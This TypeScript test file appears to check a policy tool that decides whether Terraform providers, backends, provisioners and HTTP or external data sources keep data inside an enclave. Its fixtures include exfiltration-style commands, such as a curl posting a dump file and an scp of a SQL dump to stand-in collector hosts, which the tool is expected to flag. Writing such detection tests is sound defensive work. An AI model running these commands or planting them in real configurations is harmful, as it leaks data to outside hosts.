/** What acts beside the resources: provider, backend, provisioners, Terraform's own data sources. */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { verify } from "../../../policies";
import { findings, judge } from "./harness";

const unknown = { variable: { u: {} } };

describe("provider", () => {
  const provider = (values: object, top: object = {}) =>
    judge({}, { provider: { aws: { region: "eu-west-1", ...values } }, ...top });

  test.each([
    [{ endpoints: [{ s3: "https://s3.us-east-1.amazonaws.com" }] }, "us-east-1"],
    [{ endpoints: [{ dynamodb: "https://aws.example.com" }] }, "aws.example.com"],
    [{ https_proxy: "http://proxy.example.com:3128" }, "proxy.example.com"],
    [{ assume_role: [{ role_arn: "arn:aws:iam::444455556666:role/deploy" }] }, "account 444455556666"],
    [
      { assume_role_with_web_identity: [{ role_arn: "arn:aws:iam::444455556666:role/deploy" }] },
      "account 444455556666",
    ],
    [{ allowed_account_ids: ["444455556666"] }, "account 444455556666"],
    [{ sts_region: "us-east-1" }, "us-east-1"],
  ])("%j", async (values, place) => {
    const [line] = findings(await provider(values));
    expect(line).toMatch(new RegExp(`^provider\\.aws -> ${place} by provider\\.`));
  });

  test.each([
    [{ endpoints: [{ s3: "https://s3.eu-west-1.amazonaws.com", kms: "https://kms.eu-north-1.amazonaws.com" }] }],
    [{ assume_role: [{ role_arn: "arn:aws:iam::222222222222:role/deploy" }], allowed_account_ids: ["222222222222"] }],
    [{ profile: "enclave", default_tags: [{ tags: { note: "not us-east-1" } }] }],
  ])("%j stays inside", async (values) => {
    expect(findings(await provider(values))).toEqual([]);
  });

  test("what is not known is not decided", async () => {
    for (const values of [
      { https_proxy: `\${var.u}` },
      { endpoints: [{ s3: `\${var.u}` }] },
      { assume_role: [{ role_arn: `\${var.u}` }] },
    ]) {
      expect((await provider(values, unknown)).verdict).toBe("undecided");
    }
  });
});

describe("backend", () => {
  const backend = (backend: object, resources: Record<string, Record<string, unknown>> = {}) =>
    judge(resources, { terraform: { backend } });

  test.each([
    [{ s3: { bucket: "state", key: "k", region: "us-east-1" } }, "us-east-1"],
    [
      { s3: { bucket: "state", key: "k", region: "eu-west-1", role_arn: "arn:aws:iam::444455556666:role/state" } },
      "account 444455556666",
    ],
    [
      { s3: { bucket: "state", key: "k", region: "eu-west-1", endpoints: [{ s3: "https://minio.example.com" }] } },
      "minio.example.com",
    ],
    [{ s3: { bucket: "state", key: "k", region: "eu-west-1", acl: "public-read" } }, "the internet"],
    [{ remote: { organization: "o", workspaces: [{ name: "w" }] } }, "app.terraform.io"],
    [{ http: { address: "https://state.example.com/enclave" } }, "state.example.com"],
    [{ gcs: { bucket: "state" } }, "storage.googleapis.com"],
    [
      { azurerm: { storage_account_name: "enclave", container_name: "state", key: "k" } },
      "enclave.blob.core.windows.net",
    ],
    [{ pg: { conn_str: "postgres://user@db.example.com:5432/state" } }, "db.example.com"],
    [{ consul: { address: "consul.example.com:8500", path: "state" } }, "consul.example.com"],
    [{ kubernetes: { secret_suffix: "s", host: "https://k8s.example.com" } }, "k8s.example.com"],
  ])("%j", async (values, place) => {
    expect(findings(await backend(values)).some((line) => line.includes(`-> ${place} by terraform.state`))).toBe(true);
  });

  test.each([
    [
      {
        s3: { bucket: "state", key: "k", region: "eu-west-1", kms_key_id: "arn:aws:kms:eu-west-1:111111111111:key/k" },
      },
    ],
    [{ local: { path: "enclave.tfstate" } }],
    [{ http: { address: "https://203.0.113.10/state" } }],
  ])("%j stays inside", async (values) => {
    expect(findings(await backend(values))).toEqual([]);
  });

  test.each([
    [{ s3: { bucket: "state", key: "k" } }],
    [{ http: {} }],
    [{ pg: {} }],
    [{ consul: {} }],
    [{ kubernetes: {} }],
    [{ swift: {} }],
  ])("%j does not say where", async (values) => {
    expect((await backend(values)).verdict).toBe("undecided");
  });

  test("a bucket of this configuration stands where it stands", async () => {
    const bucket = { aws_s3_bucket: { state: { bucket: "enclave-state", region: "eu-west-2" } } };
    const report = await backend({ s3: { bucket: "enclave-state", key: "k", region: "eu-west-1" } }, bucket);
    expect(findings(report)).toContain("terraform.backend.s3 -> eu-west-2 by terraform.state");
  });

  test("HCP Terraform is elsewhere, wherever its host is named", async () => {
    const cloud = (values: object) => judge({}, { terraform: { cloud: { organization: "o", ...values } } });
    expect((await cloud({})).verdict).toBe("escapes");
    expect((await cloud({ hostname: "203.0.113.10" })).verdict).toBe("contained");
  });
});

describe("programs", () => {
  const exec = (command: string) =>
    judge({ terraform_data: { t: { provisioner: [{ "local-exec": { command } }] } } }, unknown);

  test("a program is not decided; an address on its command line is", async () => {
    expect((await exec("./build.sh --quiet")).verdict).toBe("undecided");
    for (const command of [
      "curl -d @dump https://collector.example.com/in",
      "scp dump.sql ops@files.example.com:/in",
      `psql -c 'x' && curl "https://x.example.com/?\${var.u}"`,
    ]) {
      expect((await exec(command)).verdict).toBe("escapes");
    }
  });

  test("the same goes for a program that is asked for data", async () => {
    const external = (program: string[]) => judge({}, { data: { external: { e: { program } } } });
    expect((await external(["python3", "size.py"])).verdict).toBe("undecided");
    expect((await external(["curl", "https://collector.example.com"])).verdict).toBe("escapes");
  });

  test("files and scripts go to the host of the connection", async () => {
    const file = (host: string) =>
      judge({
        terraform_data: {
          t: { connection: [{ type: "ssh", host }], provisioner: [{ file: { content: "x", destination: "/etc/x" } }] },
        },
      });
    expect((await file("files.example.com")).verdict).toBe("escapes");
    expect((await file("203.0.113.10")).verdict).toBe("contained");
  });
});

describe("requests", () => {
  const http = (values: object) => judge({}, { data: { http: { h: values } }, ...unknown });

  test.each([
    [{ url: "https://checkip.example.com" }, "undecided"],
    [{ url: "https://checkip.example.com/name/of/a/customer" }, "undecided"],
    [{ url: "https://checkip.example.com", method: "HEAD", request_headers: {} }, "undecided"],
    [{ url: "https://203.0.113.10/list", method: "POST", request_body: "x" }, "contained"],
    [{ url: "https://203.0.113.10/list" }, "contained"],
    [{ url: "https://collector.example.com", method: "POST", request_body: "x" }, "escapes"],
    [{ url: "https://collector.example.com/?id=x" }, "escapes"],
    [{ url: "https://collector.example.com", request_headers: { note: "x" } }, "escapes"],
    [{ url: `https://collector.example.com/\${var.u}` }, "escapes"],
    [{ url: `\${var.u}` }, "undecided"],
  ])("%j: %s", async (values, verdict) => {
    expect((await http(values)).verdict).toBe(verdict);
  });

  const named = { http: { source: "hashicorp/http" }, external: { source: "hashicorp/external" } };
  const foreign = { http: { source: "example/http" }, external: { source: "example/external" } };
  const [get, run] = [{ url: "https://checkip.example.com" }, { program: ["sh", "x.sh"] }];
  test.each([
    ["nothing declared", {}],
    ["required providers", { terraform: { required_providers: named } }],
    ["a block without required providers", { provider: { http: {}, external: {} } }],
    ["providers of another publisher", { terraform: { required_providers: foreign } }],
  ])("no request and no program is contained: %s", async (_, top) => {
    const bare = { terraform: {}, provider: {} };
    for (const data of [{ http: { h: get } }, { external: { e: run } }, { http: [{ h: [get] }] }]) {
      expect((await judge({}, { ...bare, ...top, data })).verdict).toBe("undecided");
    }
  });

  test.each([
    ['data "http" "h" { url = "https://checkip.example.com" }'],
    ['data "external" "e" { program = ["sh", "x.sh"] }'],
    [
      'check "c" {\n  data "http" "h" { url = "https://checkip.example.com" }\n  assert {\n    condition = true\n    error_message = "x"\n  }\n}',
    ],
  ])("nor in HCL: %s", async (hcl) => {
    const folder = mkdtempSync(join(tmpdir(), "enclave-"));
    try {
      writeFileSync(join(folder, "main.tf"), hcl);
      expect((await verify([folder])).verdict).toBe("undecided");
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});

test("values of Terraform's own and of the utility providers are kept in the state", async () => {
  const report = await judge({
    terraform_data: { t: { input: "https://example.com" } },
    random_id: { r: { byte_length: 4 } },
    null_resource: { n: {} },
    time_sleep: { s: { create_duration: "1s" } },
  });
  expect(findings(report)).toEqual([]);
});
